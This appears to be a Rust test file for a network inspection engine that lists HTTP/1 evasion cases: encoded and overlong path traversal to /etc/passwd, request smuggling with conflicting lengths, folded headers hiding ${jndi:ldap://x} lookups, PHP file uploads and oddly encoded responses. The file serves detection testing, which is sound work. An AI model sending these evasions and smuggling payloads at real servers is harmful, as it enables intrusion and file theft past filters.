//! Requests and answers of HTTP/1 that are written otherwise than most write them.

use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};

use super::talk::Talk;
use super::{PAYLOAD, Rule, Trick};

macro_rules! uri {
    ($name:literal, $request:expr) => {
        request!($name, Rule::Uri, $request)
    };
}
macro_rules! request {
    ($name:literal, $rule:expr, $request:expr) => {
        Trick { area: "HTTP/1", name: $name, rule: $rule, play: |talk| asked(talk, $request) }
    };
}
macro_rules! answer {
    ($name:literal, $answer:expr) => {
        Trick { area: "HTTP/1", name: $name, rule: Rule::Answer, play: |talk| answered(talk, $answer) }
    };
}

/// `evil-payload and evil-payload`, by brotli.
pub const BROTLI: &[u8] = b"\x1b\x1c\x00\xf8\x1d\xa9\x51\x9f\x3b\xe2\x3a\xac\x0c\xce\x4e\xb1\xe5\x55\x4b\x5a\xe9\x82\x4c\x81\xe0\x10\x9e\x98\xe0\x02";

pub const TRICKS: &[Trick] = &[
    uri!("percent-encoded path", b"GET /%65tc/p%61ss%77d HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("path encoded twice", b"GET /%2565tc/p%2561sswd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("slash encoded twice", b"GET /a/..%252fetc%252fpasswd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("path in %u", b"GET /%u0065tc/p%u0061sswd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("path in full-width letters by %u", b"GET /%uff45tc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("slash as overlong UTF-8", b"GET /x/..%c0%afetc%c0%afpasswd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("self-references in the path", b"GET /./etc/./././passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("references to the parent in the path", b"GET /a/../etc/b/%2e%2e/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("slashes repeated", b"GET ///etc////passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("backslashes", b"GET /a\\..\\etc\\passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("whole URI", b"GET http://user:x@a:80/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("a NUL behind the path", b"GET /etc/passwd%00.html HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("tabs in the request line", b"GET\t/etc/passwd\tHTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("many blanks in the request line", b"GET     /etc/passwd     HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("vertical tab and form feed in the request line", b"GET\x0b/etc/passwd\x0cHTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("empty lines before the request", b"\r\n\r\n\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("bare line feeds", b"GET /etc/passwd HTTP/1.1\nHost: a\n\n"),
    uri!("carriage returns before the line feed", b"GET /etc/passwd HTTP/1.1\r\r\nHost: a\r\n\r\n"),
    uri!("HTTP/0.9", b"GET /etc/passwd\r\n"),
    uri!("an unknown version", b"GET /etc/passwd HTTP/7.3\r\nHost: a\r\n\r\n"),
    uri!("the version in small letters", b"GET /etc/passwd http/1.1\r\nHost: a\r\n\r\n"),
    uri!("a method of the client's own", b"FETCH /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("a method in small letters", b"get /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("the third of three requests at once", b"GET /a HTTP/1.1\r\nHost: a\r\n\r\nGET /b HTTP/1.1\r\nHost: a\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("behind a body of a stated length", b"POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\nabcdGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("behind a body with two lengths", b"POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nContent-Length: 4\r\n\r\nabcdGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    uri!("behind a body in chunks that also states a length", b"POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 400\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
    Trick { area: "HTTP/1", name: "a path behind 8,000 bytes of it", rule: Rule::Uri, play: |talk| {
        asked(talk, format!("GET /{}/../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", "a".repeat(8_000)).as_bytes());
    } },
    Trick { area: "HTTP/1", name: "on another port", rule: Rule::Uri, play: |talk| {
        talk.port = 4_444;
        asked(talk, b"GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n");
    } },
    Trick { area: "HTTP/1", name: "from port 443 to port 22", rule: Rule::Uri, play: |talk| {
        (talk.client_port, talk.port) = (443, 22);
        asked(talk, b"GET /etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n");
    } },
    request!("a header over two lines", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nX: ${jndi:ld\r\n\t\r\n ap://x}\r\nY: jndi:\r\n ldap\r\nZ: ${jndi:ldap://x}\r\n\r\n"),
    request!("a header that begins on the next line", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nX:\r\n ${jndi:ldap://x}\r\n\r\n"),
    request!("a blank before the colon", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nX : ${jndi:ldap://x}\r\n\r\n"),
    request!("a header without a name", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\n: ${jndi:ldap://x}\r\n\r\n"),
    request!("a line without a colon", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nnothing\r\nX: ${jndi:ldap://x}\r\n\r\n"),
    request!("a NUL in a header before it", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nA: x\0y\r\nX: ${jndi:ldap://x}\r\n\r\n"),
    request!("a NUL in its own header", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nX: \0${jndi:ldap://x}\r\n\r\n"),
    request!("the same header again", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nX: 1\r\nX: ${jndi:ldap://x}\r\n\r\n"),
    request!("bare carriage returns in a header", Rule::Header, b"GET / HTTP/1.1\r\nHost: a\r\nX: 1\r2\r${jndi:ldap://x}\r\n\r\n"),
    request!("lines ended by a line feed alone", Rule::Header, b"GET / HTTP/1.1\nHost: a\nX: ${jndi:ldap://x}\n\n"),
    Trick { area: "HTTP/1", name: "a header behind 400 others", rule: Rule::Header, play: |talk| {
        let many: String = (0..400).map(|number| format!("H{number}: v\r\n")).collect();
        asked(talk, format!("GET / HTTP/1.1\r\nHost: a\r\n{many}X: ${{jndi:ldap://x}}\r\n\r\n").as_bytes());
    } },
    Trick { area: "HTTP/1", name: "a header of 12,000 bytes", rule: Rule::Header, play: |talk| {
        asked(talk, format!("GET / HTTP/1.1\r\nHost: a\r\nX: {}${{jndi:ldap://x}}\r\n\r\n", "x".repeat(12_000)).as_bytes());
    } },
    request!("in a trailer", Rule::Header, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX: ${jndi:ldap://x}\r\n\r\n"),
    request!("chunks of one byte", Rule::Body, &chunks(b"", PAYLOAD.as_bytes(), 1, "")),
    request!("chunks with extensions", Rule::Body, &chunks(b"", PAYLOAD.as_bytes(), 5, ";a=\"b\";c")),
    request!("chunks whose lengths begin with zeros", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0000000000000005\r\nevil-\r\n000007\r\npayload\r\n0\r\n\r\n"),
    request!("chunks with blanks around their lengths", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5  \r\nevil-\r\n7 \t\r\npayload\r\n0\r\n\r\n"),
    request!("chunks with bare line feeds", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\nevil-\n7\npayload\n0\n\n"),
    request!("the coding's name in mixed case, behind a tab", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\ntRansfer-EncOding:\tChUnKeD\r\n\r\n5\r\nevil-\r\n7\r\npayload\r\n0\r\n\r\n"),
    request!("the coding's name on the next line", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding:\r\n chunked\r\n\r\n5\r\nevil-\r\n7\r\npayload\r\n0\r\n\r\n"),
    request!("two codings, chunked the last", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nevil-\r\n7\r\npayload\r\n0\r\n\r\n"),
    request!("a body with GET", Rule::Body, b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 12\r\n\r\nevil-payload"),
    request!("a body after a pause for 100", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 12\r\n\r\nevil-payload"),
    request!("a length with a plus sign before it", Rule::Body, b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +12\r\n\r\nevil-payload"),
    Trick { area: "HTTP/1", name: "a request in gzip", rule: Rule::Body, play: |talk| {
        asked(talk, posted("Content-Encoding: gzip\r\n", &gzip(PAYLOAD.as_bytes())));
    } },
    request!("a file in a form", Rule::Upload, &posted("Content-Type: multipart/form-data; boundary=B\r\n", b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nevil-payload\r\n--B--\r\n")),
    request!("a file in a form, its mark in quotes, lines of LF", Rule::Upload, &posted("Content-Type: multipart/form-data; charset=x; boundary=\"B C\"\r\n", b"--B C\nContent-Disposition: form-data; name=\"f\"; filename=x.php\n\nevil-payload\n--B C--\n")),
    request!("a file in a form, its name over two lines", Rule::Upload, &posted("Content-Type: multipart/form-data; boundary=B\r\n", b"--B\r\nContent-Disposition: form-data; name=\"f\";\r\n filename=\"x.php\"\r\n\r\nevil-payload\r\n--B--\r\n")),
    request!("a file in a form, its name in RFC 5987", Rule::Upload, &posted("Content-Type: multipart/form-data; boundary=B\r\n", b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''x.php\r\n\r\nevil-payload\r\n--B--\r\n")),
    request!("a form's mark named with blanks around the sign", Rule::Upload, &posted("Content-Type: multipart/form-data; boundary = B\r\n", b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nevil-payload\r\n--B--\r\n")),
    request!("a file by PUT", Rule::Upload, b"PUT /x HTTP/1.1\r\nHost: a\r\nContent-Length: 12\r\n\r\nevil-payload"),
    answer!("answer in gzip", coded("gzip", &gzip(PAYLOAD.as_bytes()))),
    answer!("answer in gzip, all of its header's fields", coded("gzip", &gzip_with_fields(PAYLOAD.as_bytes()))),
    answer!("answer in gzip, wrong sum at its end", coded("gzip", &{
        let mut body = gzip(PAYLOAD.as_bytes());
        let last = body.len() - 6;
        body[last] ^= 0xff;
        body
    })),
    answer!("answer in gzip, cut off", coded("gzip", &{
        let mut body = gzip(PAYLOAD.as_bytes());
        body.truncate(body.len() - 8);
        body
    })),
    answer!("answer in gzip, two members", coded("gzip", &[gzip(b"harmless-and-evil"), gzip(b"-payload evil-payload")].concat())),
    answer!("answer named x-gzip", coded("x-gzip", &gzip(PAYLOAD.as_bytes()))),
    answer!("answer named GZIP", coded("GZIP", &gzip(PAYLOAD.as_bytes()))),
    answer!("answer in zlib", coded("deflate", &compress_to_vec_zlib(PAYLOAD.as_bytes(), 6))),
    answer!("answer in raw deflate", coded("deflate", &compress_to_vec(PAYLOAD.as_bytes(), 6))),
    answer!("answer named gzip, and in raw deflate", coded("gzip", &compress_to_vec(PAYLOAD.as_bytes(), 6))),
    answer!("answer named deflate, and in gzip", coded("deflate", &gzip(PAYLOAD.as_bytes()))),
    answer!("answer in gzip over gzip", coded("gzip, gzip", &gzip(&gzip(PAYLOAD.as_bytes())))),
    answer!("answer in deflate over gzip, two headers", coded("gzip\r\nContent-Encoding: deflate", &compress_to_vec_zlib(&gzip(PAYLOAD.as_bytes()), 6))),
    answer!("answer named gzip, and plain", coded("gzip", PAYLOAD.as_bytes())),
    answer!("answer named by no coding that there is, and plain", coded("rot13", PAYLOAD.as_bytes())),
    answer!("answer in brotli", coded("br", BROTLI)),
    answer!("answer in gzip, in chunks of one byte", chunks(b"Content-Encoding: gzip\r\n", &gzip(PAYLOAD.as_bytes()), 1, "")),
    answer!("answer in chunks, extensions with quotes", chunks(b"", PAYLOAD.as_bytes(), 3, ";x=\"\r;\"")),
    answer!("answer in chunks, named behind a vertical tab", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: \x0bchunked\r\n\r\n5\r\nevil-\r\n7\r\npayload\r\n0\r\n\r\n"),
    answer!("answer in chunks by HTTP/1.0", b"HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nevil-\r\n7\r\npayload\r\n0\r\n\r\n"),
    answer!("answer without a length", b"HTTP/1.1 200 OK\r\n\r\nevil-payload"),
    answer!("answer longer than it states", b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nevil-payload"),
    answer!("answer shorter than it states", b"HTTP/1.1 200 OK\r\nContent-Length: 300\r\n\r\nevil-payload"),
    answer!("answer after 100 and 103", b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nevil-payload"),
    answer!("answer without a status line", b"evil-payload"),
    answer!("answer whose status line has no text", b"HTTP/1.1 200\r\nContent-Length: 12\r\n\r\nevil-payload"),
    answer!("answer with lines of LF alone", b"HTTP/1.1 200 OK\nContent-Length: 12\n\nevil-payload"),
    answer!("answer with a header over two lines", b"HTTP/1.1 200 OK\r\nContent-Length:\r\n 12\r\n\r\nevil-payload"),
    answer!("answer with a status of 204 and a body", b"HTTP/1.1 204 No Content\r\nContent-Length: 12\r\n\r\nevil-payload"),
    answer!("answer of one byte a part, behind 30,000 bytes", [b"HTTP/1.1 200 OK\r\nContent-Length: 30012\r\n\r\n".to_vec(), vec![b'x'; 30_000], PAYLOAD.into()].concat()),
    answer!("answer in UTF-16", [b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-16le\r\nContent-Length: 24\r\n\r\n".to_vec(), PAYLOAD.bytes().flat_map(|byte| [byte, 0]).collect()].concat()),
    answer!("answer in UTF-7", b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-7\r\nContent-Length: 20\r\n\r\n+AGU-vil-p+AGE-yload"),
];

fn asked(talk: &mut Talk, request: impl AsRef<[u8]>) {
    talk.open();
    talk.up(request.as_ref());
    talk.served();
}

fn answered(talk: &mut Talk, answer: impl AsRef<[u8]>) {
    talk.open();
    talk.up(b"GET /a HTTP/1.1\r\nHost: a\r\n\r\n");
    talk.down(answer.as_ref());
    talk.close();
}

/// A message with a body in chunks: an answer where it has headers of its own, else a request.
fn chunks(headers: &[u8], body: &[u8], size: usize, extension: &str) -> Vec<u8> {
    let answer = !headers.is_empty() || extension.contains('\r');
    let mut out = if answer { b"HTTP/1.1 200 OK\r\n".to_vec() } else { b"POST / HTTP/1.1\r\nHost: a\r\n".to_vec() };
    out.extend(headers);
    out.extend(b"Transfer-Encoding: chunked\r\n\r\n");
    for part in body.chunks(size) {
        out.extend(format!("{:X}{extension}\r\n", part.len()).bytes());
        out.extend(part);
        out.extend(b"\r\n");
    }
    out.extend(b"0\r\n\r\n");
    out
}

fn posted(headers: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("POST /x HTTP/1.1\r\nHost: a\r\n{headers}Content-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn coded(coding: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

/// As a gzip member.
pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    finish_gzip(data, &mut out);
    out
}

fn gzip_with_fields(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0x1f, 0, 0, 0, 0, 0, 3, 4, 0, b'a', b'b', 0, 0];
    out.extend(b"name\0comment\0");
    out.extend([0x12, 0x34]);
    finish_gzip(data, &mut out);
    out
}

fn finish_gzip(data: &[u8], out: &mut Vec<u8>) {
    out.extend(compress_to_vec(data, 6));
    out.extend(crc32(data).to_le_bytes());
    out.extend((data.len() as u32).to_le_bytes());
}

fn crc32(data: &[u8]) -> u32 {
    let step = |sum: u32, byte: &u8| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 })
    };
    !data.iter().fold(u32::MAX, step)
}
